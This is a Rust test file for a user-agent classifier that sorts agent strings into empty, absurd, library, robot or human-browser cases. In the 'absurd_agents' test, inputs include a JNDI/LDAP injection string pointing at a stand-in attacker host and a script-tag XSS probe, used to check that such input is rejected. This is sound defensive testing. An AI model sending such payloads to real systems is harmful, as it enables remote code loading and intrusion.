use super::*;

fn class(agent: &str) -> Option<(Class, String)> {
    let bot = of(agent.as_bytes()).or_else(|| Robots::built_in().guess(agent.as_bytes()));
    bot.map(|bot| (bot.class(), bot.name().to_owned()))
}

#[test]
fn no_agent() {
    assert_eq!(class(""), Some((Class::Empty, String::new())));
}

#[test]
fn absurd_agents() {
    for agent in [
        "5",
        "123456789",
        "-",
        "()",
        "203.0.113.9",
        "2001:db8::1",
        "fe80::abcd",
        "5b2a9c0e-54a0-4a36-9f0e-3a2a7a1b9d11",
        "5b2a9c0e54a04a369f0e3a2a7a1b9d11",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "Mozilla/5.0 \u{1b}[2J (X11)",
        "Mozilla/5.0 (X\0Y)",
        &"Mozilla/5.0 (".repeat(80),
    ] {
        assert_eq!(class(agent), Some((Class::Absurd, String::new())), "{agent:?}");
    }
}

#[test]
fn a_products_name_alone_is_a_librarys() {
    assert_eq!(class("my-client/2.3"), Some((Class::Library, "my-client".to_owned())));
    assert_eq!(class("Mozilla/5.0"), Some((Class::Library, "Mozilla".to_owned())));
    let long = class(&"x".repeat(900)).unwrap();
    assert_eq!((long.0, long.1.len()), (Class::Library, MAX_NAME));
}

#[test]
fn what_calls_itself_a_robot_is_one() {
    let other = |name: &str| Some((Class::Other, name.to_owned()));
    assert_eq!(class("Mozilla/5.0 (compatible; Acme-Bot/1.0)"), other("Acme-Bot"));
    assert_eq!(class("acme CRAWLER 2"), other("CRAWLER"));
    assert_eq!(class("Mozilla/5.0 (X11) HeadlessThing/1"), other("HeadlessThing"));
    assert_eq!(class("Acme (see https://acme.example/about)"), other(""));
    assert_eq!(class("Acme bot"), other("bot"));
}

#[test]
fn persons_have_other_agents() {
    for agent in [
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (Linux; Android 9; CUBOT_X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile",
        "Mozilla/5.0 (Linux; Android 10; Cubot) AppleWebKit/537.36",
        "Mozilla/5.0 (Linux; Android 10; Bottega X) AppleWebKit/537.36",
        "Links (2.29; Linux 6.1 x86_64; GNU C 13; text)",
        "w3m/0.5.3+git20230121",
        "Dillo/3.1.0",
        "Opera/9.80 (J2ME/MIDP; Opera Mini/9) Presto/2.12",
    ] {
        assert_eq!(class(agent), None, "{agent}");
    }
}
